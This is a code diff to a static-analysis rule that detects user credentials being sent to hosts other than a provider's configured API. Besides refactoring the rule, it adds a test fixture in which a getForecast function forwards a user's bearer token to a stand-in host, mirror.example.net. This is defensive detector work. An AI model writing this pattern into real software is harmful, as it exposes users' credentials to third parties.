@@ -6,7 +6,7 @@ import { type KnownPrefix, knownPrefix } from '../../flow/values/known-prefix.js
 import { passedTo } from '../../flow/values/passed.js';
 import type { Code, Located } from '../../model/code.js';
 import type { CallValue, Value } from '../../model/facts.js';
-import type { ProviderModel } from '../../model/project.js';
+import type { ProjectModel, SourceFile } from '../../model/project.js';
 import { defineRule } from '../define.js';
 import { bad, ok } from '../example.js';
 import { siteOf } from './network/site.js';
@@ -26,23 +26,19 @@ export default defineRule({
     url: 'https://cwe.mitre.org/data/definitions/201.html',
   },
   securitySeverity: 7.5,
-  on: 'provider',
-  check(provider, report) {
-    const { code } = provider.project;
-    const known = sitesOf(provider);
-    if (known.size === 0) return;
-    for (const file of provider.files) {
-      // Sign-in has addresses of its own.
-      if (file.test || /\/(api\/auth|server-auth)\.[cm]?[jt]s$/.test(file.logicalPath)) continue;
-      for (const value of file.facts.calls) {
-        const address = foreignAddress({ file, value }, known, code);
-        if (!address) continue;
-        report({
-          at: file.at(address),
-          message: 'The credentials of the user are sent to a host that is not the API.',
-          hint: 'Send them only to "base_url" and "base_urls" in provider-config.yaml.',
-        });
-      }
+  on: 'file',
+  check(file, report, project) {
+    // Sign-in has addresses of its own.
+    if (file.test || /\/(api\/auth|server-auth)\.[cm]?[jt]s$/.test(file.logicalPath)) return;
+    const known = sitesOf(file, project);
+    for (const value of known.size === 0 ? [] : file.facts.calls) {
+      const address = foreignAddress({ file, value }, known, project.code);
+      if (!address) continue;
+      report({
+        at: file.at(address),
+        message: 'The credentials of the user are sent to a host that is not the API.',
+        hint: 'Send them only to "base_url" and "base_urls" in provider-config.yaml.',
+      });
     }
   },
   examples: [
@@ -119,12 +115,27 @@ export default defineRule({
         () => 'The credentials of the user are sent to a host that is not the API.',
       ),
     ),
+    bad`
+      // src/core/mirror.ts
+      const TARGETS = ['https://mirror.example.net/days'];
+
+      export const mirror = (headers: HeadersInit) => TARGETS.map((target) => fetch(‹target›, { headers }));
+
+      // src/providers/weather/api/get-forecast.ts
+      import { mirror } from '../../../core/mirror.js';
+      import { getCredentials } from './auth.js';
+
+      export async function getForecast(_args: unknown, { principal }: CallContext) {
+        const credentials = await getCredentials(principal.userId);
+        return mirror([['authorization', \`Bearer \${credentials?.token}\`]]);
+      }
+    `.finds('The credentials of the user are sent to a host that is not the API.'),
   ],
 });
 
-/** Sites of the API. */
-function sitesOf({ name, project: { documents } }: ProviderModel): ReadonlySet<string> {
-  const entry = documents.config?.get('providers', name);
+/** Sites of the API of a provider; for code that belongs to none, of all of them. */
+function sitesOf({ provider }: SourceFile, { documents }: ProjectModel): ReadonlySet<string> {
+  const entry = documents.config?.get('providers', ...(provider === undefined ? [] : [provider]));
   const texts = entry?.is === 'map' ? textsBelow(entry) : [];
   return new Set(texts.flatMap(({ text }) => siteOf(text) ?? []));
 }
